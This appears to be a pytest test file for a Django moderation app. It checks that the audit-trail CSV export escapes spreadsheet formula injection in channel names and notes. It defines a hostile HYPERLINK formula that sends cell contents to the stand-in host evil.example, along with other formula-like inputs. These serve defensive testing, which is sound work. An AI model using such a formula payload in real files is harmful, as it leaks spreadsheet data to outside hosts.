"""The audit trail's CSV opened in a spreadsheet: channel names and what people wrote cannot
run as formulas; ids stay numbers."""

import csv
import io

import pytest

from accounts.models import Channel
from audit.models import AuditEntry
from core.testing import PASSWORD
from moderation import actions

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")'


def test_hostile_channel_names_and_notes_are_written_as_text_in_the_audit_csv(client, org):
    # Given a channel named like a formula, and notes that start like formulas
    item = org.items["a"]
    Channel.objects.filter(pk=item.channel_id).update(name=HYPERLINK)
    actions.acknowledge(item, acting_user=org.users["comms"], note="  -2+3")
    AuditEntry.objects.create(action="citizen_note", channel=item.channel, note="\t@SUM(A1)")
    AuditEntry.objects.create(action="plain_note", item=item, note="Svar sendt -5 min. før")

    # When the team lead downloads the audit trail
    assert client.login(username="comms_lead", password=PASSWORD)
    response = client.get("/moderation/audit/?format=csv")

    # Then every such cell starts with an apostrophe and the rest is unchanged
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    by_action = {row["action"]: row for row in rows}
    acknowledged = by_action["acknowledge"]
    # (the channel column names it by name and platform, as the page does)
    assert acknowledged["channel"] == "'" + HYPERLINK + " · Facebook"
    assert acknowledged["note"] == "'  -2+3"
    assert acknowledged["item"] == str(item.pk)
    assert acknowledged["actor"] == "comms"
    assert by_action["citizen_note"]["channel"] == "'" + HYPERLINK + " · Facebook"
    assert by_action["citizen_note"]["note"] == "'\t@SUM(A1)"
    assert by_action["plain_note"]["note"] == "Svar sendt -5 min. før"
    assert by_action["plain_note"]["channel"] == ""
